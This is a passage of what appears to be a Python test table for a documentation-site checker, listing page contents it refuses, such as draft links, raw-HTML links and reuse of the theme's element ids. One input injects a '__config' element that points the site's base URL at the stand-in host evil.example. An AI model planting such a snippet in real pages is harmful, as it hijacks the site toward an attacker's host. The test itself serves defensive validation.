    Refused("a link to a draft", f"{G}/r-to-draft.md", page(*TS, body="Text.\n\n[Soon](r-draft.md)\n"),
            f"{G}/r-to-draft.md:8: body", extra={f"{G}/r-draft.md": page(*TS, "draft: true")}),
    # Published dead: the engine rewrites Markdown links and images, never raw HTML, nor a link
    # naming a translation's file.
    *_in_body(("a page linked in raw HTML", 6,
               'See <a href="../reports/needs-assessment-survey-results.md">the results</a>.\n'),
              ("an image of the site in raw HTML", 8,
               'Text.\n\n<img src="../files/editor-sign-in-en.png" alt="The sign-in page">\n'),
              ("a link to a translation's file", 8, "Text.\n\n[About](../about.ru.md)\n"),
              # Ids of the page around the content: the theme reads the first #__config, this one.
              ("the theme's configuration id", 6, '<div id="__config">{"base": "https://evil.example/"}</div>\n'),
              ("a heading whose id the theme uses", 8, "Text.\n\n## \\_\\_search\n"),
              ("an attribute list taking a hub id", 7, "A paragraph.\n{: #hub-catalogue-title }\n"),
              ("a label for the theme's drawer", 6, '<label for="__drawer">Menu</label>\n')),
]
